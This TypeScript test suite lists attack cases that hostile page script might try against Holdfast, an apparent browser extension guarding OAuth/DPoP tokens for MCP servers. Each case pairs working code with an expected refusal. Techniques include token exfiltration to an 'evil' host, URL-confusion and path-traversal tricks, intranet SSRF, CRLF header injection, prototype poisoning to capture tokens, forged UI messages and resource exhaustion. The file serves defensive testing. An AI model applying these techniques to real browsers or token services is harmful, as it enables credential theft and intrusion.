import { MOST_UNBOUND } from '../../../src/model/quotas.ts';
import { type Attack, form, inRelay, type Known, request, speak } from './attack.ts';

const json = (token: string, more: Record<string, string> = {}) => ({
  method: 'POST',
  headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...more },
  body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
});
const prove = (url: string, token: string, method = 'POST') => ({ kind: 'prove', token, method, url });

/** Not one of the background's answers holds a proof. */
const NO_PROOF = /^(?!.*"kind":"proof")/s;

const elsewhere = (name: string, url: (known: Known) => string): Attack => ({
  name,
  hope: 'a proof, or the token, for another place',
  run: async (place, known) =>
    (await request(place, url(known), json(known.access))) + (await speak(place, [prove(url(known), known.access)])),
});

/** A report that the page has sent a handle to somebody. */
const passedOn = (url: string, handles: readonly unknown[]) => ({ kind: 'passedOn', url, handles });

/** What script in the protected page itself can try. */
export const FROM_PAGE: readonly Attack[] = [
  elsewhere('another origin', ({ evil }) => `${evil}/mcp`),
  elsewhere('a path that only begins alike', ({ resource }) => `${resource}-evil`),
  elsewhere('a path that climbs out', ({ resource }) => `${resource}/../admin`),
  elsewhere('an encoded path that climbs out', ({ resource }) => `${resource}/%2e%2e/admin`),
  elsewhere(
    'the resource as user name of another host',
    ({ resource, evil }) => `${resource.replace(/\/mcp$/, '')}@${new URL(evil).host}/mcp`,
  ),
  elsewhere(
    'a backslash before another host',
    ({ resource, evil }) => `${new URL(resource).origin}\\@${new URL(evil).host}/mcp`,
  ),
  elsewhere('the authorization server', ({ issuer }) => `${issuer}/token`),
  elsewhere('a path with an encoded slash', ({ resource }) => `${resource}%2F..%2Fadmin`),
  elsewhere('a path in other letters', ({ resource }) => resource.replace(/mcp$/, 'MCP')),
  elsewhere('the resource’s host with a dot at its end', ({ resource }) => resource.replace(/:(\d+)\//, '.:$1/')),
  elsewhere('another port of the resource’s host', ({ resource, evil }) =>
    resource.replace(/:\d+/, `:${new URL(evil).port}`),
  ),
  elsewhere('the whole of the resource’s server', ({ resource }) => new URL('/', resource).href),
  {
    name: 'hundreds of paths of the resource’s server',
    hope: 'a yes by mistake',
    got: NO_PROOF,
    run: (place, { resource, access }) =>
      speak(
        place,
        Array.from({ length: 300 }, (_, number) => prove(new URL(`/${number}`, resource).href, access)),
      ),
  },
  {
    name: 'reports of handles: to hundreds of servers, in names that turn, of nobody, and of what is none',
    hope: 'a full log, a host that reads as another, an error of Holdfast’s',
    run: (place, { access, refresh, resource }) =>
      speak(place, [
        ...Array.from({ length: 300 }, (_, number) => passedOn(`https://h${number}.evil.example/`, [access, refresh])),
        passedOn('https://\u202eelpmaxe.ipa\u2066.example/', [access]),
        passedOn(resource, [access.replace(/.$/, '~'), access.replace(/..$/, 'xx'), null]),
        passedOn('javascript:0', Array(10_000).fill(access)),
      ]),
    got: /^(?!.*"kind":"(?!pass|unreachable))/s,
  },
  {
    name: 'a sibling of the resource, without a handle',
    hope: 'the token that stands at the resource',
    run: (place, { resource, access }) =>
      place.evaluate(
        async ([url, token]) => {
          const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
          await fetch(url, { method: 'POST', headers, body: '{}' }); // so that the token stands there
          const siblings = ['~x', ':x', '@x', '+x', ',x', '/x', '-x', '.x', '%20x'].map((end) => url + end);
          const streams = siblings.map(
            (sibling) =>
              new Promise((resolve) => {
                const source = new EventSource(sibling);
                source.onerror = () => resolve(source.close());
              }),
          );
          await Promise.all([...streams, ...siblings.map((sibling) => fetch(sibling).catch(() => null))]);
          return 'asked';
        },
        [resource, access] as const,
      ),
  },
  {
    name: 'a WebSocket and a beacon at the resource',
    hope: 'the token on what is no fetch',
    run: (place, { resource, access }) =>
      place.evaluate(
        async ([url, token]) => {
          const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
          await fetch(url, { method: 'POST', headers, body: '{}' });
          const socket = new WebSocket(url.replace('http', 'ws'));
          await new Promise((resolve) => socket.addEventListener('error', resolve));
          return String(navigator.sendBeacon(url, '{}'));
        },
        [resource, access] as const,
      ),
    got: /^true$/,
  },
  {
    name: 'a server of its own that sends it on to the resource',
    hope: 'the token, without asking for a proof',
    run: (place, { evil, resource, access }) =>
      place.evaluate(
        async ([from, to, token]) => {
          const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
          await fetch(to, { method: 'POST', headers, body: '{}' });
          return fetch(`${from}/on?to=${encodeURIComponent(to)}`, { method: 'POST', body: '{}' }).then(
            ({ status }) => String(status),
            (error) => String(error),
          );
        },
        [evil, resource, access] as const,
      ),
    got: /^401|TypeError/,
  },
  {
    name: 'a client’s password for a host behind the firewall',
    hope: 'to sign in there through Holdfast, past the preflight',
    run: (place, { crossing, intranet }) => {
      const given = form({ grant_type: 'authorization_code', code: 'x', resource: `${crossing}/named` });
      const headers = { ...given.headers, authorization: `Basic ${btoa('admin:admin')}` };
      return request(place, `${intranet}/token`, { ...given, headers });
    },
    got: /^TypeError/,
  },
  {
    name: 'the refresh handle in a token exchange',
    hope: 'the real refresh token, spent for another audience',
    run: (place, { issuer, refresh, clientId }) =>
      request(
        place,
        `${issuer}/token`,
        form({
          grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange',
          refresh_token: refresh,
          subject_token: refresh,
          audience: 'https://other.example',
          client_id: clientId,
        }),
      ),
    got: /^400.*unsupported_grant_type/s,
  },
  {
    name: 'a token request for the authorization server’s own endpoint',
    hope: 'a session whose proofs are for the token endpoint',
    run: (place, { issuer, clientId }) =>
      request(
        place,
        `${issuer}/token`,
        form({ grant_type: 'authorization_code', code: 'x', client_id: clientId, resource: `${issuer}/token` }),
      ),
    got: /^400/,
  },
  {
    name: 'what the browser remembers of the requests',
    hope: 'the token in a timing entry, a worker or a cache',
    run: (place) =>
      place.evaluate(async () => {
        const caches = await globalThis.caches?.keys().catch(() => []);
        const entries = performance.getEntries().map((entry) => JSON.stringify(entry));
        return [...entries, ...(caches ?? []), JSON.stringify(localStorage), JSON.stringify(sessionStorage)].join('\n');
      }),
    got: /hf_/, // the handles are there
  },
  {
    name: 'proofs of nobody’s given back, and reports without end',
    hope: 'another’s turn, or a list that fills the storage',
    run: (place, { evil }) =>
      speak(place, [
        ...Array.from({ length: 100 }, (_, index) => ({ kind: 'dropped', jtis: [`guess-${index}`] })),
        ...Array.from({ length: MOST_UNBOUND + 16 }, (_, index) => ({
          kind: 'exposed',
          url: `${evil}/token`,
          body: `grant_type=authorization_code&resource=${evil}/${index}`,
        })),
      ]),
    got: /^(?!.*"kind":"(?!pass"))/s,
  },
  {
    name: 'addresses that are no web addresses',
    hope: 'a proof for a scheme that nobody checks',
    run: (place, known) =>
      speak(
        place,
        ['data:text/plain,x', 'blob:x', 'file:///etc/passwd', 'chrome-extension://x/', 'ws://mcp.localhost/mcp'].map(
          (url) => prove(url, known.access),
        ),
      ),
    got: NO_PROOF,
  },
  {
    name: 'a method with a line break',
    hope: 'a header of its own in the proof’s request',
    run: (place, known) => speak(place, [prove(known.resource, known.access, 'POST\r\nX: 1')]),
    got: NO_PROOF,
  },
  {
    name: 'guessed handles',
    hope: 'somebody’s session',
    run: (place, known) =>
      speak(
        place,
        Array.from({ length: 500 }, (_, index) => prove(known.resource, `hf_${String(index).padStart(43, 'A')}`)),
      ),
    got: NO_PROOF,
  },
  {
    name: 'the refresh handle as an access token',
    hope: 'the refresh token in the network layer',
    run: (place, known) => request(place, known.resource, json(known.refresh)),
    got: /^401/,
  },
  {
    name: 'a token request to a server of its own',
    hope: 'the real refresh token in its hands',
    run: async (place, { evil, refresh, clientId }) =>
      request(
        place,
        `${evil}/token`,
        form({ grant_type: 'refresh_token', refresh_token: refresh, client_id: clientId }),
      ),
  },
  {
    name: 'token endpoints that are spelled a little differently',
    hope: 'a reply that Holdfast does not look into',
    run: async (place, { issuer, refresh, clientId }) => {
      const body = form({ grant_type: 'refresh_token', refresh_token: refresh, client_id: clientId });
      const urls = [
        `${issuer}/token?x`,
        `${issuer}/token/`,
        `${issuer}//token`,
        `${issuer}/token/../token%00`,
        `${issuer}/TOKEN`,
      ];
      return (await Promise.all(urls.map((url) => request(place, url, body)))).join('\n');
    },
  },
  {
    name: 'revocation at a server of its own',
    hope: 'the real token in its hands',
    run: (place, { evil, refresh, access }) =>
      Promise.all([refresh, access].map((token) => request(place, `${evil}/revoke`, form({ token })))).then(String),
  },
  {
    name: 'metadata of another issuer at its own address',
    hope: 'to speak for the real authorization server',
    run: async (place, known) => {
      const url = `${known.evil}/.well-known/oauth-authorization-server/impostor`;
      await request(place, url, {});
      return request(place, `${known.evil}/token`, form({ grant_type: 'refresh_token', refresh_token: known.refresh }));
    },
  },
  {
    name: 'metadata that names a host behind the firewall',
    hope: 'to read through Holdfast what CORS has closed',
    run: (place, { crossing, intranet }) =>
      request(
        place,
        `${intranet}/token`,
        form({ grant_type: 'authorization_code', code: 'x', resource: `${crossing}/named` }),
      ),
    got: /^TypeError/,
  },
  {
    name: 'a token endpoint that redirects behind the firewall',
    hope: 'the same, through a redirect that Holdfast follows',
    run: (place, { crossing }) =>
      request(
        place,
        `${crossing}/redirecting/token`,
        form({ grant_type: 'authorization_code', code: 'x', resource: `${crossing}/redirecting` }),
      ),
    got: /^TypeError/,
  },
  {
    name: 'a forged token request to a host behind the firewall',
    hope: 'the same, without metadata',
    run: (place, known) =>
      speak(place, [
        { kind: 'form', url: `${known.intranet}/token`, headers: [], body: 'grant_type=authorization_code&code=x' },
      ]),
    got: /"kind":"passAndReport"/, // the page may send it itself, and CORS is the page's
  },
  {
    name: 'headers that the token endpoint would trust',
    hope: 'to send them in Holdfast’s name, past the preflight',
    run: (place, { issuer, resource, clientId }) =>
      request(place, `${issuer}/token`, {
        ...form({ grant_type: 'authorization_code', code: 'x', client_id: clientId, resource }),
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '127.0.0.1' },
      }),
    got: /^400.*invalid_grant/s, // it left, or its own preflight would have failed; without that header, as the test sees there
  },
  {
    name: 'a proof of its own beside the handle',
    hope: 'a request with its own key and the real token',
    run: (place, { resource, access }) => request(place, resource, json(access, { dpop: 'eyJ.own.proof' })),
  },
  {
    name: 'the same proof twice, from a worker',
    hope: 'a second request for one proof',
    run: async (place, { resource, access }) => {
      const reply = JSON.parse(await speak(place, [prove(resource, access)]))[0]?.body;
      return place.evaluate(
        async ([url, proof]) => {
          const code =
            'onmessage = ({ data }) => fetch(...data).then((r) => postMessage(r.status), () => postMessage(0))';
          const worker = new Worker(URL.createObjectURL(new Blob([code])));
          const send = () =>
            new Promise((resolve) => {
              worker.onmessage = ({ data }) => resolve(data);
              const headers = { dpop: proof, 'content-type': 'application/json', accept: 'application/json' };
              worker.postMessage([url, { method: 'POST', headers, body: '{}' }]);
            });
          return `${await send()} ${await send()}`;
        },
        [resource, reply.proof] as const,
      );
    },
    got: /^(?!401)\d+ 401$/,
    isOfProofs: true,
  },
  {
    name: 'a giant message',
    hope: 'a worker that runs out of memory',
    run: (place, known) =>
      speak(place, [
        'x'.repeat(5_000_000),
        { kind: 'form', url: known.issuer, headers: [], body: 'y'.repeat(200_000) },
      ]),
    got: NO_PROOF,
  },
  {
    name: 'malformed messages',
    hope: 'an exception that changes something',
    run: (place) =>
      speak(place, [
        null,
        1,
        [],
        {},
        { kind: '__proto__' },
        { kind: 'constructor' },
        { kind: ['prove'] },
        { kind: 'prove' },
        { kind: 'dropped', jtis: 'all' },
      ]),
    got: NO_PROOF,
  },
  {
    name: 'messages of Holdfast’s own views',
    hope: 'to act as the person: revoke, unprotect, allow',
    run: (place, known) =>
      speak(place, [
        { kind: 'revokeAll' },
        { kind: 'unprotect', origin: 'http://agent.localhost' },
        { kind: 'protect', origin: known.evil },
        { kind: 'policy', origin: known.evil, change: { custody: false } },
      ]),
    got: NO_PROOF,
  },
  {
    name: 'a port of Holdfast’s own views',
    hope: 'to hear what the popup hears, and to act as the person',
    run: (place) =>
      place
        .evaluate(() => location.origin)
        .then((origin) => speak(place, [{ kind: 'revokeAll' }, { kind: 'unprotect', origin }], { name: 'ui' })),
    got: /^\[\]$/,
  },
  {
    name: 'what the person says of keys, said by the page',
    hope: 'a key of its own making, or the handle of one',
    run: (place, { evil }) =>
      place
        .evaluate(() => location.origin)
        .then(async (agent) => {
          const key = {
            agent,
            server: `${evil}/mcp`,
            header: 'authorization',
            scheme: 'Bearer',
            name: '',
            secret: 'x',
          };
          const said = [
            { kind: 'keep', ...key },
            { kind: 'showHandle', session: 'x' },
          ];
          return (await speak(place, said)) + (await speak(place, said, { name: 'ui' }));
        }),
    got: /^(?!.*(?:hfk_|"ok"))/,
  },
  {
    name: 'the session’s handle in other fields',
    hope: 'its token there, or one of a key that a person gave',
    run: async (place, { resource, access }) => {
      const asked = ['x-api-key', 'cookie', 'host'].map((header) => ({ ...prove(resource, access), header }));
      const heard = await speak(place, [prove(resource, `hfk_${'x'.repeat(43)}`), ...asked]);
      return heard + (await request(place, resource, { method: 'POST', headers: { 'x-api-key': access }, body: '{}' }));
    },
    got: NO_PROOF,
  },
  {
    name: 'a flood of ports',
    hope: 'a background that answers nobody any more',
    run: async (place, { resource, access }) => {
      const requests = Array.from({ length: 5 }, () => prove(resource, access, 'GET'));
      return String(JSON.parse(await speak(place, requests, { ports: 100 })).length);
    },
    got: /^500$/,
  },
  {
    name: 'prototypes poisoned after loading',
    hope: 'the token, as it passes through',
    run: (place, { resource, access }) =>
      place.evaluate(
        async ([url, token]) => {
          const heard: string[] = [];
          for (const name of ['access_token', 'accessToken', 'token', 'proof', 'refresh_token', 'tokens']) {
            Object.defineProperty(Object.prototype, name, {
              configurable: true,
              set(value) {
                heard.push(String(value));
                Object.defineProperty(this, name, { value, configurable: true, writable: true, enumerable: true });
              },
            });
          }
          const { map } = Array.prototype;
          Array.prototype.map = function (...given) {
            heard.push(String(this));
            return Reflect.apply(map, this, given);
          };
          const { status } = await fetch(url, {
            method: 'POST',
            headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
            body: '{}',
          });
          Array.prototype.map = map;
          for (const name of ['access_token', 'accessToken', 'token', 'proof', 'refresh_token', 'tokens']) {
            Reflect.deleteProperty(Object.prototype, name);
          }
          return `${status} ${heard.join('\n')}`;
        },
        [resource, access] as const,
      ),
    got: /^(?!401)[1-5]\d\d /, // it went out proved, and was heard
  },
  {
    name: 'requests without a handle while a token is presented',
    hope: 'the session, without asking for a proof',
    run: (place, { resource }) => request(place, resource, { method: 'POST', body: '{}' }),
    got: /^401/,
  },
  {
    name: 'images, scripts, forms and event streams at the resource',
    hope: 'the same, past the wrapper',
    run: (place, { resource }) =>
      place.evaluate(async (url) => {
        const ended = (element: HTMLElement, src: string) =>
          new Promise<string>((resolve) => {
            for (const type of ['load', 'error']) element.addEventListener(type, () => resolve(type));
            (element as HTMLImageElement).src = src;
            document.body.append(element);
          });
        const stream = new Promise<string>((resolve) => {
          const source = new EventSource(url);
          source.onerror = () => {
            source.close();
            resolve('error');
          };
          source.onmessage = ({ data }) => resolve(data);
        });
        const frame = document.createElement('iframe');
        frame.name = 'target';
        document.body.append(frame);
        const formElement = document.createElement('form');
        Object.assign(formElement, { method: 'post', action: url, target: 'target' });
        document.body.append(formElement);
        const loaded = new Promise((resolve) => frame.addEventListener('load', () => resolve('load')));
        formElement.submit();
        return String(
          await Promise.all([ended(new Image(), url), ended(document.createElement('script'), url), stream, loaded]),
        );
      }, resource),
  },
  {
    name: 'a synchronous XMLHttpRequest',
    hope: 'a way that cannot wait for Holdfast',
    run: (place, { resource, access }) =>
      place.evaluate(
        ([url, token]) => {
          const xhr = new XMLHttpRequest();
          xhr.open('POST', url, false);
          xhr.setRequestHeader('authorization', `Bearer ${token}`);
          try {
            xhr.send('{}');
          } catch (error) {
            return String(error);
          }
          return `${xhr.status} ${xhr.responseText}`;
        },
        [resource, access] as const,
      ),
    got: /^401|NetworkError/,
  },
  {
    name: 'the extension’s own pages and ports',
    hope: 'to talk to the background past the relay',
    run: (place, { extension }) =>
      place.evaluate(async (id) => {
        const runtime = (globalThis as { chrome?: { runtime?: { connect?: unknown } } }).chrome?.runtime;
        const page = await fetch(`chrome-extension://${id}/src/ui/popup/index.html`).then(
          () => 'read',
          () => 'closed',
        );
        const frame = document.createElement('iframe');
        frame.src = `chrome-extension://${id}/src/ui/popup/index.html?site=http://evil.localhost`;
        document.body.append(frame);
        await new Promise((resolve) => frame.addEventListener('load', resolve));
        let inside = 'closed';
        try {
          inside = frame.contentDocument?.body.textContent ?? 'closed';
        } catch {
          // another origin
        }
        return `${typeof runtime?.connect} ${page} ${inside}`;
      }, extension),
    got: /^undefined closed (closed)?$/,
  },
  {
    name: 'the extension’s storage, from the relay’s own world',
    hope: 'to read and to change what the person chose',
    run: (place) =>
      inRelay(place, async () => {
        const areas = ['local', 'sync', 'managed', 'session'] as const;
        const outcomes = areas.flatMap((area) => [
          chrome.storage[area].get().then(
            () => `${area} was read`,
            () => 'refused',
          ),
          chrome.storage[area].set({ consents: {}, 'policy https://other.example': { custody: false } }).then(
            () => `${area} was written`,
            () => 'refused',
          ),
        ]);
        return [...new Set(await Promise.all(outcomes))].join();
      }),
    got: /^refused$/,
  },
];
